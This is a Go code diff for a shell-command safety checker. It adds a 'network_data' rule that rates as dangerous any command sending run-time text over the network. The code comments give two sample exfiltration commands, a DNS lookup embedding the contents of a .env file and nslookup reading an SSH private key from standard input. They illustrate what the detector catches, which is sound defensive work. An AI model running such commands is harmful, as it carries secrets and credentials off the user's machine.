@@ -142,6 +142,13 @@ type Defaults struct {
 	// system directories (./ls, /tmp/x/ls): it is not the program its base
 	// name suggests (warning).
 	Path Level `yaml:"path"`
+	// NetworkData is the level of sending text known only at run time
+	// over the network: a substitution or variable in the arguments of a
+	// command with check "network" (dig x$(cat .env).example.com), or a
+	// file or pipe on the standard input of one with "network_stdin"
+	// (nslookup < ~/.ssh/id_rsa). It may carry a file's contents off the
+	// machine (dangerous).
+	NetworkData Level `yaml:"network_data"`
 }
 
 // CommandRule judges one command (or subcommand). In YAML a bare level
@@ -538,7 +545,8 @@ func ParseRules(data []byte) (Rules, error) {
 			}
 		case "defaults":
 			if err = checkKeys(v, "unknown", "empty", "invalid", "dynamic_command", "write", "pipe_to_shell",
-				"download_exec", "generated_code", "fork_bomb", "unknown_variable", "path", "write_outside"); err == nil {
+				"download_exec", "generated_code", "fork_bomb", "unknown_variable", "path", "write_outside",
+				"network_data"); err == nil {
 				err = v.Decode(&r.Defaults)
 			}
 		case "paths":
@@ -708,6 +716,7 @@ func defaultDefaults() Defaults {
 		UnknownVariable: Warning,
 		WriteOutside:    Dangerous,
 		Path:            Warning,
+		NetworkData:     Dangerous,
 	}
 }
 
